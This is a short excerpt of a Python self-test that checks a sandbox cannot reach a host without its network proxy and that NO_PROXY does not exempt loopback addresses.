            f"        socket.create_connection((host, {allowed.port}), timeout=3)\n"
            "        print('DIRECT', host)\n"
            "    except OSError:\n"
            "        pass\n"
            "print('NO_PROXY=' + repr(os.environ.get('NO_PROXY')))\n"
        )
        before = allowed.hits
        r = ctx.backend.run(rp, ["python3", "-c", code], sandbox_id="selftest", timeout=60)
    finally:
        allowed.close()
    expect(b"DIRECT" not in r.stdout and allowed.hits == before, "connected to the host without the proxy")
    expect(b"127.0.0.1" not in r.stdout.split(b"NO_PROXY=")[-1], "NO_PROXY lets loopback bypass the proxy")
